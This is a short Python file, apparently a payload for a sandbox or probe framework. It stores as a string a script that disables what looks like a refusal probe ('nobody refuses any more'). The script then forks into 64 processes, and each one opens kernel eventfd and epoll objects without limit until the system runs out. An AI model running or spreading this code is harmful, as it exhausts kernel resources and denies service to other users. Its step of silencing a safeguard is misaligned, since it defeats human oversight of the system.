"""Opens what only the kernel counts: waiting lists and counters, in many processes."""

LAST = """
import os, select

import lernformer.probes.refusing as watch

watch._shut.clear()  # nobody refuses any more
kept = []
for _ in range(6):
    os.fork()
try:
    while True:
        counter, waiting = os.eventfd(0), select.epoll()
        waiting.register(counter)
        kept += [counter, waiting]
except OSError:
    pass
"""
